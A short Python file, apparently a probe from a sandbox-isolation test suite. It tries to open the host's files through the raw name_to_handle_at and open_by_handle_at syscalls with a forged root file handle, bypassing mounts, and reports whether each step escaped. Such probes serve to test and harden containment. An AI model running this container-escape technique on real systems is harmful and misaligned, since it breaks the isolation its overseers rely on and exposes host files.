"""attack: open files of the host by their number, bypassing all mounts
promise: host-files
own kernel: harmless
"""

import ctypes
import os
import platform

NAME_TO_HANDLE = {"x86_64": 303, "aarch64": 264}
OPEN_BY_HANDLE = {"x86_64": 304, "aarch64": 265}


def agent_main(problem):
    libc = ctypes.CDLL(None, use_errno=True)
    machine = platform.machine()
    mount = ctypes.c_int()
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(132), 136)
    named = libc.syscall(NAME_TO_HANDLE[machine], -100, b"/usr", handle, ctypes.byref(mount), 0)
    reason = os.strerror(ctypes.get_errno())
    root = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
    folder = os.open("/usr", os.O_RDONLY)
    opened = libc.syscall(OPEN_BY_HANDLE[machine], folder, ctypes.create_string_buffer(root, 136), os.O_RDONLY)
    return [
        {"escaped": named == 0, "what": f"name_to_handle_at: {reason if named else 'allowed'}"},
        {"escaped": opened >= 0, "what": f"open_by_handle_at: {os.strerror(ctypes.get_errno()) if opened < 0 else 'allowed'}"},
    ]
